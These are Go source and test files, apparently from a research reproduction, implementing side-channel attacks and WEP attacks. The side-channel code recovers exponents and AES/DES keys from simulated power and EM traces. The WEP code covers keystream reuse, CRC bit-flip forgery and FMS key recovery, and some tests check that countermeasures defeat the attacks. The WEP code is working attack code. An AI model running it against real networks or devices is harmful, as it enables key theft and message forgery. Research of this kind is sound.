// TestTraceMatchesMeter: the trace sums to the meter, tying the SPA
// signal to the timing model.
func TestTraceMatchesMeter(t *testing.T) {
	ctx, rng := setup(t)
	secret := new(big.Int).SetBytes(rng.Bytes(16))
	secret.SetBit(secret, 127, 1)
	var m mp.CycleMeter
	_, trace := ctx.ModExpWithTrace(big.NewInt(7), secret, &m)
	var sum uint64
	for _, d := range trace {
		sum += d
	}
	if sum != m.Cycles() {
		t.Fatalf("trace sum %d != meter %d", sum, m.Cycles())
	}
}

// TestTracedResultCorrect: the traced variants compute the right value.
func TestTracedResultCorrect(t *testing.T) {
	ctx, rng := setup(t)
	base := new(big.Int).SetBytes(rng.Bytes(32))
	base.Mod(base, ctx.N)
	exp := new(big.Int).SetBytes(rng.Bytes(8))
	want := new(big.Int).Exp(base, exp, ctx.N)
	got1, _ := ctx.ModExpWithTrace(base, exp, nil)
	got2, _ := ctx.ModExpConstTimeWithTrace(base, exp, nil)
	if got1.Cmp(want) != 0 || got2.Cmp(want) != 0 {
		t.Fatal("traced exponentiation computes wrong result")
	}
	// Zero exponent edge case.
	if r, tr := ctx.ModExpWithTrace(base, big.NewInt(0), nil); r.Int64() != 1 || tr != nil {
		t.Fatal("zero exponent mishandled")
	}
}

func TestValidation(t *testing.T) {
	ctx, _ := setup(t)
	if _, err := RecoverExponent(ctx, nil); err == nil {
		t.Error("accepted empty trace")
	}
	// A trace starting with a multiply-class sample is malformed.
	_, mul, extra := ctx.ExpCycleCosts()
	if _, err := RecoverExponent(ctx, []uint64{mul + extra}); err == nil {
		t.Error("accepted malformed trace")
	}
}

func BenchmarkSPARecover512(b *testing.B) {
	ctx, rng := setup(b)
	secret := new(big.Int).SetBytes(rng.Bytes(64))
	secret.SetBit(secret, 511, 1)
	_, trace := ctx.ModExpWithTrace(big.NewInt(5), secret, nil)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := RecoverExponent(ctx, trace); err != nil {
			b.Fatal(err)
		}
	}
}
