// Package spa implements simple power analysis against modular
// exponentiation: the coarse, single-trace sibling of the differential
// attacks the paper's Section 3.4 describes under "analyzing the power
// consumption of the system" [44].
//
// A square-and-multiply exponentiation emits one power burst per modular
// operation, and squares are visibly shorter than multiplies. Reading the
// operation sequence off ONE trace yields the exponent directly:
//
//	S S M S S M S ...  →  bits 0 1 0 1 ...
//
// (a square starting an iteration that is followed by a multiply means
// the bit was 1; a square followed by another square means 0).
//
// The Montgomery-ladder countermeasure emits one uniform sample per bit,
// so the trace is flat and the attack recovers nothing.
package spa

import (
	"errors"
	"math/big"

	"repro/internal/crypto/mp"
)

// Classification thresholds: the attacker first clusters the trace's
// amplitude levels, then replays the square/multiply grammar.

// RecoverExponent reads the secret exponent from one operation-duration
// trace of a left-to-right square-and-multiply (as produced by
// mp.ModExpWithTrace). ctx supplies the cost levels the attacker would
// calibrate from reference traces.
func RecoverExponent(ctx *mp.MontCtx, trace []uint64) (*big.Int, error) {
	if len(trace) == 0 {
		return nil, errors.New("spa: empty trace")
	}
	sq, mul, extra := ctx.ExpCycleCosts()
	// Any sample below the multiply floor is a square (squares are
	// cheaper even with the extra reduction, because extra < mul-sq is
	// not guaranteed in general — so classify against the midpoint).
	mid := (sq + extra + mul) / 2
	isMul := func(d uint64) bool { return d > mid }

	// Grammar: every iteration starts with a square; a following
	// multiply marks bit=1. The first iteration corresponds to the MSB
	// (always 1 in this encoding).
	var bits []uint
	i := 0
	for i < len(trace) {
		if isMul(trace[i]) {
			return nil, errors.New("spa: trace does not start an iteration with a square")
		}
		i++
		if i < len(trace) && isMul(trace[i]) {
			bits = append(bits, 1)
			i++
		} else {
			bits = append(bits, 0)
		}
	}
	if len(bits) == 0 || bits[0] != 1 {
		// The leading square-multiply pair of a normalized exponent
		// always yields a 1; a flat or malformed trace lands here.
		return nil, errors.New("spa: trace inconsistent with a normalized exponent")
	}
	exp := new(big.Int)
	for _, b := range bits {
		exp.Lsh(exp, 1)
		if b == 1 {
			exp.SetBit(exp, 0, 1)
		}
	}
	return exp, nil
}

// TraceIsFlat reports whether a trace is uniform — what the attacker sees
// against the Montgomery-ladder countermeasure.
func TraceIsFlat(trace []uint64) bool {
	for _, d := range trace[1:] {
		if d != trace[0] {
			return false
		}
	}
	return len(trace) > 0
}
