// Package wepattack implements the classic attacks on WEP-style link
// protection that the paper cites when it calls the deployed wireless
// security protocols "insufficient ... easily broken or compromised"
// (Section 2, refs [21] Walker, [22] Borisov-Goldberg-Wagner, [23]
// Arbaugh; the FMS key-schedule attack underlies the GSM/WEP cloning
// results of [25]):
//
//   - keystream reuse: two frames under one IV decrypt each other;
//   - ICV linearity: CRC-32 is affine, so an attacker flips plaintext
//     bits and fixes the checksum without knowing the key;
//   - FMS: the RC4 key schedule leaks secret key bytes under weak IVs of
//     the form (b+3, 255, x), allowing full key recovery from traffic.
package wepattack

import (
	"errors"
	"fmt"
	"hash/crc32"
	"sort"

	"repro/internal/crypto/bitutil"
	"repro/internal/wep"
)

// RecoverKeystream derives the RC4 keystream prefix of a frame from known
// plaintext — the first step of every keystream-reuse attack. The
// recovered prefix covers the known plaintext plus, when the full payload
// is known, the 4 ICV bytes.
func RecoverKeystream(frame, knownPlaintext []byte) ([]byte, error) {
	ct, err := wep.Ciphertext(frame)
	if err != nil {
		return nil, err
	}
	if len(knownPlaintext) > len(ct)-wep.ICVLen {
		return nil, errors.New("wepattack: known plaintext longer than frame payload")
	}
	clear := append([]byte{}, knownPlaintext...)
	if len(knownPlaintext) == len(ct)-wep.ICVLen {
		// Full payload known: extend through the ICV.
		icv := crc32.ChecksumIEEE(knownPlaintext)
		clear = append(clear, byte(icv), byte(icv>>8), byte(icv>>16), byte(icv>>24))
	}
	ks := make([]byte, len(clear))
	bitutil.XORBytes(ks, ct, clear)
	return ks, nil
}

// DecryptWithKeystream opens another frame protected under the same IV
// (and therefore the same keystream), up to the keystream length.
func DecryptWithKeystream(frame, keystream []byte) ([]byte, error) {
	ct, err := wep.Ciphertext(frame)
	if err != nil {
		return nil, err
	}
	n := len(ct)
	if len(keystream) < n {
		n = len(keystream)
	}
	out := make([]byte, n)
	bitutil.XORBytes(out, ct[:n], keystream[:n])
	if n == len(ct) {
		out = out[:n-wep.ICVLen] // the trailing ICV bytes were covered; drop them
	}
	return out, nil
}

// ForgeBitFlip returns a forged frame whose decrypted payload is the
// original XOR delta, with the ICV fixed up via CRC-32 linearity — no key
// material required. delta must not exceed the frame's payload.
func ForgeBitFlip(frame, delta []byte) ([]byte, error) {
	ct, err := wep.Ciphertext(frame)
	if err != nil {
		return nil, err
	}
	payloadLen := len(ct) - wep.ICVLen
	if payloadLen < 0 {
		return nil, wep.ErrTooShort
	}
	if len(delta) > payloadLen {
		return nil, fmt.Errorf("wepattack: delta %d bytes exceeds payload %d", len(delta), payloadLen)
	}
	full := make([]byte, payloadLen)
	copy(full, delta)
	// CRC-32 is affine: crc(p^d) = crc(p) ^ crc(d) ^ crc(0^len).
	icvDelta := crc32.ChecksumIEEE(full) ^ crc32.ChecksumIEEE(make([]byte, payloadLen))

	forged := append([]byte{}, frame...)
	body := forged[wep.IVLen+1:]
	for i, d := range full {
		body[i] ^= d
	}
	body[payloadLen] ^= byte(icvDelta)
	body[payloadLen+1] ^= byte(icvDelta >> 8)
	body[payloadLen+2] ^= byte(icvDelta >> 16)
	body[payloadLen+3] ^= byte(icvDelta >> 24)
	return forged, nil
}

// FMSResult reports a key-recovery attempt.
type FMSResult struct {
	Key []byte
	// Votes[b][v] counts how often candidate v was suggested for secret
	// byte b.
	Votes [][256]int
	// WeakFrames counts frames that satisfied the resolved condition for
	// at least one byte position.
	WeakFrames int
}

// FMSRecoverKey mounts the Fluhrer-Mantin-Shamir attack. frames are
// captured WEP frames; firstPlainByte is the known first payload byte
// (0xAA for the SNAP header of real 802.11 traffic); keyLen is the secret
// length to recover (5 or 13); verify tests a candidate key (an attacker
// verifies by decrypting a captured frame).
//
// Candidate bytes are ranked by votes; the search tries the few top
// candidates per position, so occasional vote upsets do not defeat it.
func FMSRecoverKey(frames [][]byte, firstPlainByte byte, keyLen int, verify func(key []byte) bool) (*FMSResult, error) {
	if keyLen != wep.Key40Len && keyLen != wep.Key104Len {
		return nil, fmt.Errorf("wepattack: unsupported key length %d", keyLen)
	}
	if len(frames) == 0 {
		return nil, errors.New("wepattack: no frames captured")
	}
	if verify == nil {
		return nil, errors.New("wepattack: verification callback required")
	}
	res := &FMSResult{Votes: make([][256]int, keyLen)}
	known := make([]byte, 0, 3+keyLen)

	// First keystream byte per frame: z = ct[0] ^ firstPlainByte.
	type capture struct {
		iv [3]byte
		z  byte
	}
	caps := make([]capture, 0, len(frames))
	for _, f := range frames {
		iv, err := wep.FrameIV(f)
		if err != nil {
			continue
		}
		ct, err := wep.Ciphertext(f)
		if err != nil || len(ct) == 0 {
			continue
		}
		caps = append(caps, capture{iv: iv, z: ct[0] ^ firstPlainByte})
	}

	recovered := make([]byte, 0, keyLen)
	for b := 0; b < keyLen; b++ {
		weak := 0
		for _, c := range caps {
			known = known[:0]
			known = append(known, c.iv[0], c.iv[1], c.iv[2])
			known = append(known, recovered...)
			cand, ok := fmsCandidate(known, b, c.z)
			if ok {
				res.Votes[b][cand]++
				weak++
			}
		}
		res.WeakFrames += weak
		// Provisionally take the top candidate; the final search below
		// revisits near-ties.
		recovered = append(recovered, byte(topCandidates(res.Votes[b], 1)[0]))
	}

	// Depth-first search over the top candidates per byte, verifying each
	// complete key.
	const branch = 3
	options := make([][]int, keyLen)
	for b := 0; b < keyLen; b++ {
		options[b] = topCandidates(res.Votes[b], branch)
	}
	key := make([]byte, keyLen)
	var dfs func(pos int) bool
	dfs = func(pos int) bool {
		if pos == keyLen {
			return verify(key)
		}
		for _, cand := range options[pos] {
			key[pos] = byte(cand)
			if dfs(pos + 1) {
				return true
			}
		}
		return false
	}
	if !dfs(0) {
		return res, errors.New("wepattack: no candidate key verified")
	}
	res.Key = append([]byte{}, key...)
	return res, nil
}

// fmsCandidate runs the partial key schedule for position b (needing
// known bytes IV||secret[0:b]) and, if the state is "resolved"
// (S[1] < b+3 and S[1]+S[S[1]] == b+3), returns the implied candidate for
// secret byte b from the observed first keystream byte z.
func fmsCandidate(known []byte, b int, z byte) (int, bool) {
	t := b + 3 // KSA steps with fully known key bytes
	var s [256]int
	for i := range s {
		s[i] = i
	}
	j := 0
	for i := 0; i < t; i++ {
		j = (j + s[i] + int(known[i])) & 0xff
		s[i], s[j] = s[j], s[i]
	}
	if s[1] >= t || (s[1]+s[s[1]])&0xff != t {
		return 0, false
	}
	// Invert the state to locate z.
	zi := -1
	for idx, v := range s {
		if v == int(z) {
			zi = idx
			break
		}
	}
	if zi < 0 {
		return 0, false
	}
	return (zi - j - s[t]) & 0xff, true
}

// topCandidates returns the k highest-voted values, ties broken by value.
func topCandidates(votes [256]int, k int) []int {
	idx := make([]int, 256)
	for i := range idx {
		idx[i] = i
	}
	sort.Slice(idx, func(a, b int) bool {
		if votes[idx[a]] != votes[idx[b]] {
			return votes[idx[a]] > votes[idx[b]]
		}
		return idx[a] < idx[b]
	})
	if k > len(idx) {
		k = len(idx)
	}
	return idx[:k]
}
