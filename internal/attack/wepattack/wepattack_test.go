package wepattack

import (
	"bytes"
	"testing"

	"repro/internal/crypto/prng"
	"repro/internal/wep"
)

var key40 = []byte{0x05, 0x13, 0x42, 0xAD, 0x77}

// TestKeystreamReuse: two frames under one IV; knowing one plaintext
// decrypts the other (the Borisov-Goldberg-Wagner observation).
func TestKeystreamReuse(t *testing.T) {
	iv := [3]byte{9, 9, 9}
	known := []byte("a fully known broadcast message")
	secretMsg := []byte("PIN 4929, vault combination 7-3")
	f1, err := wep.SealWithIV(key40, iv, known)
	if err != nil {
		t.Fatal(err)
	}
	f2, err := wep.SealWithIV(key40, iv, secretMsg)
	if err != nil {
		t.Fatal(err)
	}
	ks, err := RecoverKeystream(f1, known)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecryptWithKeystream(f2, ks)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, secretMsg[:len(got)]) {
		t.Fatalf("decrypted %q, want prefix of %q", got, secretMsg)
	}
	if len(got) != len(secretMsg) {
		t.Fatalf("recovered %d of %d bytes", len(got), len(secretMsg))
	}
}

func TestKeystreamPartialKnown(t *testing.T) {
	iv := [3]byte{1, 2, 3}
	full := []byte("HEADERsecret-part")
	f1, _ := wep.SealWithIV(key40, iv, full)
	ks, err := RecoverKeystream(f1, full[:6]) // only the header known
	if err != nil {
		t.Fatal(err)
	}
	if len(ks) != 6 {
		t.Fatalf("keystream length %d, want 6", len(ks))
	}
	f2, _ := wep.SealWithIV(key40, iv, []byte("EVILPKT..."))
	got, err := DecryptWithKeystream(f2, ks)
	if err != nil {
		t.Fatal(err)
	}
	// Only 6 keystream bytes: DecryptWithKeystream returns what it can
	// (here less than ICV coverage, so all 6).
	if !bytes.Equal(got, []byte("EVILPK")) {
		t.Fatalf("got %q", got)
	}
}

func TestRecoverKeystreamValidation(t *testing.T) {
	if _, err := RecoverKeystream([]byte{1}, []byte("x")); err == nil {
		t.Error("accepted truncated frame")
	}
	iv := [3]byte{0, 0, 1}
	f, _ := wep.SealWithIV(key40, iv, []byte("abc"))
	if _, err := RecoverKeystream(f, []byte("too-long-plaintext")); err == nil {
		t.Error("accepted oversized known plaintext")
	}
}

// TestBitFlipForgery: flip plaintext bits and fix the CRC without the key
// (the ICV-linearity attack).
func TestBitFlipForgery(t *testing.T) {
	ep, err := wep.NewEndpoint(key40, wep.IVSequential)
	if err != nil {
		t.Fatal(err)
	}
	orig := []byte("PAY alice   $0001.00")
	frame, err := ep.Seal(orig)
	if err != nil {
		t.Fatal(err)
	}
	// Attacker wants to turn $0001.00 into $9991.00 — XOR delta at the
	// amount offset, no key needed.
	delta := make([]byte, len(orig))
	delta[13] = '0' ^ '9'
	delta[14] = '0' ^ '9'
	delta[15] = '0' ^ '9'
	forged, err := ForgeBitFlip(frame, delta)
	if err != nil {
		t.Fatal(err)
	}
	got, err := ep.Open(forged)
	if err != nil {
		t.Fatalf("forged frame rejected: %v", err)
	}
	want := []byte("PAY alice   $9991.00")
	if !bytes.Equal(got, want) {
		t.Fatalf("forged plaintext %q, want %q", got, want)
	}
}

func TestBitFlipShortDelta(t *testing.T) {
	ep, _ := wep.NewEndpoint(key40, wep.IVSequential)
	frame, _ := ep.Seal([]byte("0123456789"))
	forged, err := ForgeBitFlip(frame, []byte{0xff}) // flip first byte only
	if err != nil {
		t.Fatal(err)
	}
	got, err := ep.Open(forged)
	if err != nil {
		t.Fatal(err)
	}
	if got[0] != '0'^0xff || !bytes.Equal(got[1:], []byte("123456789")) {
		t.Fatalf("got %v", got)
	}
}

func TestBitFlipValidation(t *testing.T) {
	ep, _ := wep.NewEndpoint(key40, wep.IVSequential)
	frame, _ := ep.Seal([]byte("abc"))
	if _, err := ForgeBitFlip(frame, make([]byte, 100)); err == nil {
		t.Error("accepted oversized delta")
	}
	if _, err := ForgeBitFlip([]byte{1, 2}, []byte{1}); err == nil {
		t.Error("accepted truncated frame")
	}
}

// collectFMSFrames simulates the weak-IV traffic an attacker sniffs: SNAP
// frames (first byte 0xAA) under IVs (b+3, 255, x).
func collectFMSFrames(t *testing.T, key []byte, rng *prng.DRBG) [][]byte {
	t.Helper()
	var frames [][]byte
	payload := make([]byte, 16)
	for b := 0; b < len(key); b++ {
		for x := 0; x < 256; x++ {
			iv := [3]byte{byte(b + 3), 255, byte(x)}
			payload[0] = 0xAA // SNAP header
			rng.Read(payload[1:])
			f, err := wep.SealWithIV(key, iv, payload)
			if err != nil {
				t.Fatal(err)
			}
			frames = append(frames, f)
		}
	}
	return frames
}

// TestFMSRecover40BitKey is the headline WEP break: full key recovery
// from sniffed weak-IV traffic.
func TestFMSRecover40BitKey(t *testing.T) {
	rng := prng.NewDRBG([]byte("fms"))
	frames := collectFMSFrames(t, key40, rng)

	// The attacker verifies candidates against one captured frame whose
	// plaintext is known.
	iv := [3]byte{200, 1, 2}
	knownPlain := []byte("dhcp discover....")
	reference, _ := wep.SealWithIV(key40, iv, knownPlain)
	verify := func(k []byte) bool {
		got, err := wep.Open(k, reference)
		return err == nil && bytes.Equal(got, knownPlain)
	}

	res, err := FMSRecoverKey(frames, 0xAA, len(key40), verify)
	if err != nil {
		t.Fatalf("FMS failed: %v", err)
	}
	if !bytes.Equal(res.Key, key40) {
		t.Fatalf("recovered %x, want %x", res.Key, key40)
	}
	if res.WeakFrames == 0 {
		t.Fatal("no weak frames counted")
	}
}

// TestFMSNeedsWeakIVs: traffic with random (non-weak) IVs does not allow
// recovery — the property "IV filtering" mitigations rely on.
func TestFMSRandomIVsInsufficient(t *testing.T) {
	rng := prng.NewDRBG([]byte("fms-random"))
	var frames [][]byte
	payload := make([]byte, 16)
	for i := 0; i < 1280; i++ {
		ivb := rng.Bytes(3)
		if ivb[1] == 255 {
			ivb[1] = 0 // exclude the weak class entirely
		}
		payload[0] = 0xAA
		rng.Read(payload[1:])
		f, _ := wep.SealWithIV(key40, [3]byte{ivb[0], ivb[1], ivb[2]}, payload)
		frames = append(frames, f)
	}
	verify := func(k []byte) bool { return bytes.Equal(k, key40) }
	res, err := FMSRecoverKey(frames, 0xAA, len(key40), verify)
	if err == nil {
		t.Fatalf("recovery should fail without weak IVs, got key %x", res.Key)
	}
}

func TestFMSValidation(t *testing.T) {
	verify := func([]byte) bool { return false }
	if _, err := FMSRecoverKey(nil, 0xAA, 5, verify); err == nil {
		t.Error("accepted empty capture")
	}
	if _, err := FMSRecoverKey([][]byte{{1}}, 0xAA, 7, verify); err == nil {
		t.Error("accepted bad key length")
	}
	if _, err := FMSRecoverKey([][]byte{{1}}, 0xAA, 5, nil); err == nil {
		t.Error("accepted nil verifier")
	}
}

func TestTopCandidates(t *testing.T) {
	var votes [256]int
	votes[7] = 10
	votes[3] = 10
	votes[200] = 5
	top := topCandidates(votes, 3)
	if top[0] != 3 || top[1] != 7 || top[2] != 200 {
		t.Fatalf("top = %v", top)
	}
}

func BenchmarkFMSRecover(b *testing.B) {
	rng := prng.NewDRBG([]byte("fms-bench"))
	var frames [][]byte
	payload := make([]byte, 16)
	for kb := 0; kb < len(key40); kb++ {
		for x := 0; x < 256; x++ {
			iv := [3]byte{byte(kb + 3), 255, byte(x)}
			payload[0] = 0xAA
			rng.Read(payload[1:])
			f, _ := wep.SealWithIV(key40, iv, payload)
			frames = append(frames, f)
		}
	}
	iv := [3]byte{200, 1, 2}
	knownPlain := []byte("reference frame!")
	reference, _ := wep.SealWithIV(key40, iv, knownPlain)
	verify := func(k []byte) bool {
		got, err := wep.Open(k, reference)
		return err == nil && bytes.Equal(got, knownPlain)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := FMSRecoverKey(frames, 0xAA, len(key40), verify); err != nil {
			b.Fatal(err)
		}
	}
}
