package dpa

import (
	"context"
	"errors"
	"math"

	"repro/internal/crypto/aes"
	"repro/internal/crypto/bitutil"
	"repro/internal/crypto/prng"
	"repro/internal/par"
)

// Electromagnetic analysis (the paper's refs [45] Quisquater-Samyde and
// [46] van Eck): the same correlation machinery as power analysis, but
// the EM probe couples to bus/register *transitions*, so the leakage is
// the Hamming distance between consecutive values rather than the
// Hamming weight of one value. Here the modeled transition is the S-box
// input byte being overwritten by the S-box output byte in a register —
// a standard EM target.

// CollectAESEM simulates n first-round EM traces for the given key with
// Hamming-distance leakage HD(in, Sbox(in)).
func CollectAESEM(key []byte, n int, noiseStd float64, rng *prng.DRBG, masked bool) (*TraceSet, error) {
	if len(key) != 16 {
		return nil, errors.New("dpa: AES-128 key must be 16 bytes")
	}
	if n <= 0 {
		return nil, errors.New("dpa: need at least one trace")
	}
	ts := &TraceSet{
		Plaintexts: make([][]byte, n),
		Traces:     make([][]float64, n),
	}
	for t := 0; t < n; t++ {
		pt := rng.Bytes(16)
		trace := make([]float64, 16)
		for j := 0; j < 16; j++ {
			in := pt[j] ^ key[j]
			out := aes.SBox(in)
			if masked {
				m := rng.Bytes(1)[0]
				in ^= m
				out ^= m
				// A masked register rewrite still transitions, but the
				// mask randomizes the distance's correlation to the
				// unmasked hypothesis only partially: HD(in^m, out^m) =
				// HD(in, out). First-order masking of this form does
				// NOT help against an HD model — so model the effective
				// countermeasure instead: a precharged (cleared) bus,
				// which replaces the distance with HW(out^m).
				trace[j] = float64(bitutil.HammingWeight8(out ^ rng.Bytes(1)[0]))
				if noiseStd > 0 {
					trace[j] += rng.NormFloat64() * noiseStd
				}
				continue
			}
			trace[j] = float64(bitutil.HammingWeight8(in ^ out))
			if noiseStd > 0 {
				trace[j] += rng.NormFloat64() * noiseStd
			}
		}
		ts.Plaintexts[t] = pt
		ts.Traces[t] = trace
	}
	return ts, nil
}

// AttackAESEM recovers the key from EM traces by correlating against the
// Hamming-distance hypothesis HD(pt^guess, Sbox(pt^guess)).
func AttackAESEM(ts *TraceSet) ([]byte, []float64, error) {
	if len(ts.Plaintexts) == 0 || len(ts.Plaintexts) != len(ts.Traces) {
		return nil, nil, errors.New("dpa: empty or inconsistent trace set")
	}
	n := len(ts.Plaintexts)
	keyOut := make([]byte, 16)
	corrs := make([]float64, 16)
	// Per-key-byte scans are independent, as in AttackAES.
	_ = par.ForN(context.Background(), par.DefaultWorkers(), 16, func(j int) error {
		hyp := make([]float64, n)
		obs := make([]float64, n)
		for i := 0; i < n; i++ {
			obs[i] = ts.Traces[i][j]
		}
		best, bestCorr := 0, math.Inf(-1)
		for guess := 0; guess < 256; guess++ {
			for i := 0; i < n; i++ {
				in := ts.Plaintexts[i][j] ^ byte(guess)
				hyp[i] = float64(bitutil.HammingWeight8(in ^ aes.SBox(in)))
			}
			c := math.Abs(pearson(hyp, obs))
			if c > bestCorr {
				bestCorr = c
				best = guess
			}
		}
		keyOut[j] = byte(best)
		corrs[j] = bestCorr
		return nil
	})
	return keyOut, corrs, nil
}
