package dpa

import (
	"bytes"
	"math"
	"testing"

	"repro/internal/crypto/des"
	"repro/internal/crypto/prng"
)

var aesKey = []byte("sixteen byte key")
var desKey = []byte{0x13, 0x34, 0x57, 0x79, 0x9B, 0xBC, 0xDF, 0xF1}

// TestAESRecoveryNoiseless: 200 clean traces fully recover the AES key
// (experiment A2's positive arm).
func TestAESRecoveryNoiseless(t *testing.T) {
	rng := prng.NewDRBG([]byte("dpa-aes"))
	ts, err := CollectAES(aesKey, 200, 0, rng, false)
	if err != nil {
		t.Fatal(err)
	}
	got, corrs, err := AttackAES(ts)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, aesKey) {
		t.Fatalf("recovered %x, want %x", got, aesKey)
	}
	for j, c := range corrs {
		if c < 0.95 {
			t.Errorf("byte %d: winning correlation %.3f should be ≈1 without noise", j, c)
		}
	}
}

// TestAESRecoveryWithNoise: realistic trace noise, more traces.
func TestAESRecoveryWithNoise(t *testing.T) {
	rng := prng.NewDRBG([]byte("dpa-aes-noise"))
	ts, err := CollectAES(aesKey, 1500, 1.0, rng, false)
	if err != nil {
		t.Fatal(err)
	}
	got, _, err := AttackAES(ts)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, aesKey) {
		t.Fatalf("noisy recovery failed: %x, want %x", got, aesKey)
	}
}

// TestMaskingDefeatsAES: with per-trace Boolean masking the attack must
// fail and correlations collapse (A2's countermeasure arm).
func TestMaskingDefeatsAES(t *testing.T) {
	rng := prng.NewDRBG([]byte("dpa-aes-masked"))
	ts, err := CollectAES(aesKey, 1000, 0, rng, true)
	if err != nil {
		t.Fatal(err)
	}
	got, corrs, err := AttackAES(ts)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(got, aesKey) {
		t.Fatal("attack recovered the key from a masked implementation")
	}
	mean := 0.0
	for _, c := range corrs {
		mean += c
	}
	mean /= float64(len(corrs))
	if mean > 0.3 {
		t.Fatalf("masked correlations average %.3f; should look like noise", mean)
	}
}

// TestDESRecovery: first-round subkey recovery against DES (the cipher the
// paper's smart-card attack references used).
func TestDESRecovery(t *testing.T) {
	rng := prng.NewDRBG([]byte("dpa-des"))
	ts, err := CollectDES(desKey, 400, 0, rng, false)
	if err != nil {
		t.Fatal(err)
	}
	got, corrs, err := AttackDES(ts)
	if err != nil {
		t.Fatal(err)
	}
	c, _ := des.NewCipher(desKey)
	want := c.Subkey(0)
	if got != want {
		t.Fatalf("recovered subkey %012x, want %012x", got, want)
	}
	for box, cc := range corrs {
		if cc < 0.9 {
			t.Errorf("S-box %d correlation %.3f too low", box, cc)
		}
	}
}

func TestDESRecoveryWithNoise(t *testing.T) {
	rng := prng.NewDRBG([]byte("dpa-des-noise"))
	ts, err := CollectDES(desKey, 3000, 0.8, rng, false)
	if err != nil {
		t.Fatal(err)
	}
	got, _, err := AttackDES(ts)
	if err != nil {
		t.Fatal(err)
	}
	c, _ := des.NewCipher(desKey)
	if want := c.Subkey(0); got != want {
		t.Fatalf("noisy DES recovery failed: %012x, want %012x", got, want)
	}
}

// TestMaskingDefeatsDES mirrors the AES countermeasure arm.
func TestMaskingDefeatsDES(t *testing.T) {
	rng := prng.NewDRBG([]byte("dpa-des-masked"))
	ts, err := CollectDES(desKey, 1000, 0, rng, true)
	if err != nil {
		t.Fatal(err)
	}
	got, _, err := AttackDES(ts)
	if err != nil {
		t.Fatal(err)
	}
	c, _ := des.NewCipher(desKey)
	if want := c.Subkey(0); got == want {
		t.Fatal("attack recovered the subkey from a masked implementation")
	}
}

// TestTraceCountMatters: too few noisy traces fail, enough succeed — the
// quantitative story defenders use to size countermeasures.
func TestTraceCountMatters(t *testing.T) {
	rngBig := prng.NewDRBG([]byte("dpa-count"))
	big, err := CollectAES(aesKey, 2000, 2.0, rngBig, false)
	if err != nil {
		t.Fatal(err)
	}
	small := &TraceSet{Plaintexts: big.Plaintexts[:20], Traces: big.Traces[:20]}
	gotSmall, _, _ := AttackAES(small)
	gotBig, _, _ := AttackAES(big)
	if !bytes.Equal(gotBig, aesKey) {
		t.Fatalf("2000 traces at σ=2 should suffice, got %x", gotBig)
	}
	if bytes.Equal(gotSmall, aesKey) {
		t.Log("20 traces at σ=2 unexpectedly recovered the key (possible but unlikely)")
	}
}

func TestValidation(t *testing.T) {
	rng := prng.NewDRBG(nil)
	if _, err := CollectAES(make([]byte, 8), 10, 0, rng, false); err == nil {
		t.Error("accepted short AES key")
	}
	if _, err := CollectAES(aesKey, 0, 0, rng, false); err == nil {
		t.Error("accepted zero traces")
	}
	if _, err := CollectDES(make([]byte, 5), 10, 0, rng, false); err == nil {
		t.Error("accepted short DES key")
	}
	if _, err := CollectDES(desKey, 0, 0, rng, false); err == nil {
		t.Error("accepted zero traces")
	}
	if _, _, err := AttackAES(&TraceSet{}); err == nil {
		t.Error("attacked empty trace set")
	}
	if _, _, err := AttackDES(&TraceSet{}); err == nil {
		t.Error("attacked empty trace set")
	}
}

func TestPearson(t *testing.T) {
	x := []float64{1, 2, 3, 4}
	if got := pearson(x, x); math.Abs(got-1) > 1e-12 {
		t.Fatalf("self correlation = %v", got)
	}
	neg := []float64{4, 3, 2, 1}
	if got := pearson(x, neg); math.Abs(got+1) > 1e-12 {
		t.Fatalf("anti correlation = %v", got)
	}
	flat := []float64{5, 5, 5, 5}
	if got := pearson(x, flat); got != 0 {
		t.Fatalf("constant series correlation = %v, want 0", got)
	}
	if got := pearson(nil, nil); got != 0 {
		t.Fatalf("empty correlation = %v", got)
	}
}

func BenchmarkAttackAES200(b *testing.B) {
	rng := prng.NewDRBG([]byte("dpa-bench"))
	ts, err := CollectAES(aesKey, 200, 0.5, rng, false)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, err := AttackAES(ts); err != nil {
			b.Fatal(err)
		}
	}
}

// TestEMRecovery: the electromagnetic variant (Hamming-distance leakage)
// recovers the key just like the power variant.
func TestEMRecovery(t *testing.T) {
	rng := prng.NewDRBG([]byte("em"))
	ts, err := CollectAESEM(aesKey, 300, 0.5, rng, false)
	if err != nil {
		t.Fatal(err)
	}
	got, corrs, err := AttackAESEM(ts)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, aesKey) {
		t.Fatalf("EM recovery failed: %x", got)
	}
	for j, c := range corrs {
		if c < 0.8 {
			t.Errorf("byte %d EM correlation %.3f too low", j, c)
		}
	}
}

// TestEMCountermeasure: the masked+precharged model defeats the EM
// attack.
func TestEMCountermeasure(t *testing.T) {
	rng := prng.NewDRBG([]byte("em-masked"))
	ts, err := CollectAESEM(aesKey, 800, 0, rng, true)
	if err != nil {
		t.Fatal(err)
	}
	got, _, err := AttackAESEM(ts)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(got, aesKey) {
		t.Fatal("EM attack beat the countermeasure")
	}
}

// TestEMHypothesisDiffersFromHW: the two leakage models are genuinely
// different signals (an HW attack on HD traces underperforms).
func TestEMHypothesisDiffersFromHW(t *testing.T) {
	rng := prng.NewDRBG([]byte("em-vs-hw"))
	ts, err := CollectAESEM(aesKey, 400, 0, rng, false)
	if err != nil {
		t.Fatal(err)
	}
	gotHW, _, err := AttackAES(ts) // wrong model for these traces
	if err != nil {
		t.Fatal(err)
	}
	gotHD, _, _ := AttackAESEM(ts)
	if !bytes.Equal(gotHD, aesKey) {
		t.Fatal("HD model should win on HD traces")
	}
	if bytes.Equal(gotHW, aesKey) {
		t.Log("HW model also recovered key on HD traces (correlated models); acceptable but unusual")
	}
}

func TestEMValidation(t *testing.T) {
	rng := prng.NewDRBG(nil)
	if _, err := CollectAESEM(make([]byte, 3), 10, 0, rng, false); err == nil {
		t.Error("accepted short key")
	}
	if _, err := CollectAESEM(aesKey, 0, 0, rng, false); err == nil {
